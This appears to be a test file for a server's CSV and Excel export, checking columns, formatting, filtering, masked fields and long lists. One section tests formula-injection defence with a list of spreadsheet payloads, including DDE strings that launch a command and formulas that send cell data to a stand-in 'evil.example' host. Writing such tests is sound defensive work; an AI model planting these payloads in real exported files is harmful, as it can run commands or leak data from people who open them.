import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import { describe, expect, test } from "vitest";
import type { JsonObject } from "#framework/shared/schema/schema.ts";
import { sheetStream } from "#framework/server/exports/sheet.ts";
import { definitionFolder } from "../../support/definitionFolder.ts";
import { idOf } from "../../support/providers.ts";
import { openTestServer } from "../../support/server.ts";
import { numberFormats, readCsv, readXlsx } from "../../support/sheets.ts";
import { vehicleFiles, vehicles } from "../../support/vehicles.ts";
import { addForm, assign, dailyForm, publish } from "../formBuilder/building.ts";

const server = await openTestServer({ config: { configDir: definitionFolder(vehicleFiles) } });
const driver = idOf("north", "staff", "first");
await server.insert("vehicles", vehicles(driver));
const admin = await server.as("admin");
const nobody = await server.as("nobody");

/** An export as a table, its header first. */
async function table(order: JsonObject, format: "csv" | "xlsx", resource = "vehicles"): Promise<string[][]> {
  const asked = await admin.post(`records/${resource}/export`, { ...order, format });
  expect(asked.status, asked.text).toBe(200);
  const file = await nobody.get(String(asked.data.link));
  expect(file.status).toBe(200);
  return format === "csv" ? readCsv(file.text) : readXlsx(file.bytes);
}

describe.each(["csv", "xlsx"] as const)("an export as %s", (format) => {
  test("has the list's columns, titled as people see them", async () => {
    const [header, ...rows] = await table({}, format);
    expect(header).toEqual(["Name", "Status", "Driver", "Serviced on", "Bought at", "Price"]);
    expect(rows).toHaveLength(4);
  });

  test("writes values as people read them: choices, references, money, lists, groups, yes and no", async () => {
    const columns = [
      "name",
      "status",
      "driver",
      "price",
      "insured",
      "features",
      "insurer",
      "weight",
      "notes",
    ];
    const rows = await table({ columns, query: { name: "Ákos van" } }, format);
    const [, akos = []] = rows;
    expect(akos[1]).toBe("In use");
    expect(akos[2]).toMatch(/^Willa cny/);
    expect(Number(akos[3])).toBe(45_000);
    expect(akos.slice(4)).toEqual([
      format === "csv" ? "Yes" : expect.stringMatching(/^(Yes|true|1)$/i),
      "Ramp, Hoist",
      "Coastal Cover",
      "(02) 5550 1234",
      "1850.5",
      "Smells of lavender",
    ]);
  });

  test("leaves a cell empty where there is no value", async () => {
    const [, row] = await table({ columns: ["vin", "name", "price"], query: { name: "Dolly" } }, format);
    expect(row?.slice(0, 2)).toEqual(["", "Dolly"]);
    expect(row?.[2] ?? "").toBe("");
  });

  test("has the rows of the list as it is filtered, searched and ordered", async () => {
    const names = async (query: JsonObject) =>
      (await table({ columns: ["name"], query }, format)).slice(1).map(([name]) => name);
    expect(await names({ status: "in_use" })).toEqual(["Dolly", "Ákos van"]);
    expect(await names({ search: "bus" })).toEqual(["bus 100%"]);
    expect(await names({ sortField: "seats", sortType: "desc" })).toEqual([
      "Dolly",
      "bus 100%",
      "Ákos van",
      "Car_one",
    ]);
    expect(await names({ filters: [{ field: "seats", operator: ">", value: 7 }] })).toEqual([
      "bus 100%",
      "Ákos van",
    ]);
    expect(await names({ page: 9, limit: 1 })).toHaveLength(4);
  });

  test("keeps masked values masked", async () => {
    const rows = await table(
      { columns: ["name", "fuel_card", "alarm_code"], query: { name: "Ákos van" } },
      format,
    );
    expect(rows[1]).toEqual(["Ákos van", "••••••••••••3333", "•••1"]);
  });
});

describe("days, times and amounts", () => {
  const order = { columns: ["name", "serviced_on", "bought_at", "price"], query: { name: "Ákos van" } };

  test("are those of clocks where the provider is, in a form that spreadsheets read", async () => {
    expect((await table(order, "csv"))[1]).toEqual(["Ákos van", "2026-11-20", "2026-11-20 07:00", "45000"]);
  });

  test("are days, times and amounts of a workbook, which sorts and counts with them", async () => {
    const asked = await admin.post("records/vehicles/export", { ...order, format: "xlsx" });
    const { bytes } = await nobody.get(String(asked.data.link));
    expect(readXlsx(bytes)[1]?.slice(1).map(Number)).toEqual([
      46_346,
      expect.closeTo(46_346 + 7 / 24, 5),
      45_000,
    ]);
    expect(numberFormats(bytes)).toMatchObject({
      B2: "d mmm yyyy",
      C2: "d mmm yyyy h:mm AM/PM",
      D2: expect.stringContaining("0.00"),
    });
  });
});

describe("a cell that a spreadsheet would take for a formula begins with an apostrophe (G-32)", () => {
  const payloads = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@import",
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    "=1+1;=2",
    '="quoted"',
    "=\u00e9",
  ];
  test.each(payloads)("%j", async (payload) => {
    const [id] = await server.insert("vehicles", [{ name: payload }]);
    for (const format of ["csv", "xlsx"] as const) {
      const query = { filters: [{ field: "uuid", operator: "is", value: id ?? "" }] };
      const rows = await table({ columns: ["name"], query }, format);
      expect(rows[1]).toEqual([`'${payload}`]);
    }
  });

  test.each(["csv", "xlsx"] as const)(
    "in a table of any origin, also its titles and NUL, as %s",
    async (format) => {
      const cells = ["=1", "+1", "-1", "@1", "\t=1", "\r=1", "\0=1", " =1", "a=1"];
      const stream = sheetStream(format, "Table", cells, Readable.from([[cells]]));
      const bytes = await buffer(stream);
      const [titles, row] = format === "csv" ? readCsv(bytes.toString()) : readXlsx(bytes);
      const safe = ["'=1", "'+1", "'-1", "'@1", "'\t=1", "'\r=1", "'=1", " =1", "a=1"];
      expect([titles, row]).toEqual([safe, safe]);
    },
  );

  test.each<[string, string, (evil: string) => JsonObject | Promise<JsonObject>]>([
    ["a report", "ndis/client/export", () => ({ columns: ["first_name"] })],
    ["the compliance matrix", "compliance/matrix/export", () => ({})],
    [
      "answers to a form, whose title and question are evil too",
      "ndis/form-answers/export",
      async (evil) => {
        const { mood, ...others } = dailyForm.schema.properties;
        const properties = { ...others, mood: { ...mood, title: evil } };
        const built = await addForm(admin, { title: evil, schema: { ...dailyForm.schema, properties } });
        await publish(admin, built);
        const id = await assign(admin, built, idOf("north", "participants", "first"));
        const answers = { mood: "good", slept_well: true, meals: [{ what: evil }] };
        const sent = await admin.post("ndis/form-answers/fill", {
          assignment_id: id,
          data: answers,
          is_submitted: true,
        });
        expect(sent.status, sent.text).toBe(200);
        return { form: built.uuid ?? "" };
      },
    ],
  ])("in %s", async (_what, call, order) => {
    const evil = `=HYPERLINK("https://evil.example","${call}")`;
    await server.rows`update participants set first_name = ${evil} where uuid = ${idOf("north", "participants", "first")}`;
    await server.rows`update staff set full_name = ${evil} where uuid = ${driver}`;
    const body = await order(evil);
    for (const format of ["csv", "xlsx"] as const) {
      const asked = await admin.post(call, { ...body, format });
      expect(asked.status, asked.text).toBe(200);
      const file = await nobody.get(String(asked.data.link));
      const cells = (format === "csv" ? readCsv(file.text) : readXlsx(file.bytes)).flat();
      expect(cells.filter((cell) => cell.includes(evil))).not.toEqual([]);
      expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell))).toEqual([]);
    }
  });

  test("a number that is below zero stays a number", async () => {
    const [, row] = await table({ columns: ["weight"], query: { name: "Car_one" } }, "csv");
    expect(row).toEqual(["1200"]);
  });

  test("commas, quotes and lines stand inside their cell", async () => {
    await server.insert("vehicles", [{ name: 'a, "b"; c' }]);
    const rows = await table({ columns: ["name"], query: { search: "a, " } }, "csv");
    expect(rows.flat()).toContain('a, "b"; c');
  });
});

describe("a long list", () => {
  test("is exported whole and in order, across every batch, with and without values", async () => {
    const many = Array.from({ length: 2600 }, (_, index): JsonObject => ({
      name: `Fleet ${String(index).padStart(4, "0")}`,
      vin: `F-${index}`,
      ...(index % 3 === 0 ? {} : { seats: 1 + ((index * 7) % 60) }),
    }));
    await server.insert("vehicles", many);
    for (const sortType of ["asc", "desc"]) {
      const query = { search: "fleet", sortField: "seats", sortType };
      const rows = (await table({ columns: ["seats", "vin"], query }, "csv")).slice(1);
      expect(new Set(rows.map(([, vin]) => vin)).size).toBe(2600);
      const seats = rows.map(([value]) => (value === "" ? Infinity : Number(value)));
      const sorted = [...seats].sort((a, b) => (sortType === "asc" ? a - b : b - a));
      expect(seats).toEqual(sorted);
    }
    const byName = await table({ columns: ["name"], query: { search: "fleet" } }, "xlsx");
    expect(byName.slice(1).map(([name]) => name)).toEqual(many.map(({ name }) => name));
  });
});
